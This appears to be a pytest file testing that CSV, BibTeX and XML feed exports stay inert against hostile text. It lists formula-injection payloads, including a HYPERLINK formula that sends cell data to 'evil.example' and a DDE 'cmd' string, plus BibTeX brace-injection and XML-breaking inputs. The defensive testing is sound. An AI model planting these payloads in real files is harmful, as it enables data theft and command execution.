"""Exports stay inert in their own formats whatever the text in the data: CSV cells never
run as formulas, BibTeX keeps its entries and names, the feed parses as XML."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import bibtexparser
import pytest
from support.hostile import hostile_catalog

from macros.export.write import render_exports

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]
BRACES = ['x} } @misc(pwned, title = "Injected entry") @comment(', "a{b", "unbalanced }"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_csv_cell_runs_as_a_formula_in_any_text_column(catalog40, payload):
    files = render_exports(hostile_catalog(catalog40, payload))
    for name, text in files.items():
        if not name.endswith(".csv"):
            continue
        rows = list(csv.reader(io.StringIO(text)))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
        assert any(cell == "'" + payload for row in rows for cell in row), name


@pytest.mark.parametrize("payload", BRACES)
def test_braces_in_text_cannot_forge_or_drop_bibtex_fields(catalog40, payload):
    catalog = hostile_catalog(catalog40, payload)
    bib = render_exports(catalog)["atlas.bib"]
    library = bibtexparser.parse_string(bib)
    assert not library.failed_blocks
    assert len(library.entries) == len(catalog.papers)
    for entry in library.entries:
        assert set(entry.fields_dict) >= {"title", "author", "year"}, entry.key
        assert "pwned" not in entry.key
    # The whole text stays inside its field: the part after the braces is still the title.
    tail = payload.split("}")[-1].split("{")[-1].strip() or payload.split("}")[0].strip()
    assert all(tail in entry.fields_dict["title"].value for entry in library.entries)


def test_bibtex_months_are_macros_dois_verbatim_and_a_team_is_one_name(catalog40):
    bib = render_exports(hostile_catalog(catalog40, "A title"))["atlas.bib"]
    assert "month = {" not in bib and "  month = " in bib
    assert "{EPFL LLM Team}" in bib


@pytest.mark.parametrize("payload", ["a & b < c", "\"quoted\" 'x'", "]]> <!-- -->"])
def test_the_feed_parses_as_xml_whatever_the_text(catalog40, payload):
    feed = render_exports(hostile_catalog(catalog40, payload))["feed.xml"]
    root = ET.fromstring(feed.encode("utf-8"))
    entries = root.findall("{http://www.w3.org/2005/Atom}entry")
    assert entries and all(
        e.find("{http://www.w3.org/2005/Atom}title").text == payload for e in entries
    )
